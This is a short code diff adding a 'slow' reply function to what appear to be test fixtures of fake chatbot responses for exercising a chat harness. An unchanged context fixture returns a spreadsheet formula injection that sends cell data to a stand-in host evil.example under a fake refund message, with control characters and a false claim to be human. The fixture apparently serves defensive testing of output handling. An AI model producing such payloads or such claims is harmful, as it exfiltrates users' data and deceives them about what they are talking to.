@@ -48,3 +48,9 @@ def spreadsheet_attack(messages: list[dict[str, Any]]) -> str:
     """Replies that start like spreadsheet formulas and carry control characters."""
     return ('=HYPERLINK("http://evil.example/?x="&A1,"Your refund of $500 is approved")\x1b[31m'
             "\x00\x07 I am a human, not a bot.")
+
+
+def slow(messages: list[dict[str, Any]]) -> str:
+    """A bot that takes half a second per reply: a run that lasts long enough to collide with."""
+    time.sleep(0.5)
+    return "Let me check that for you."
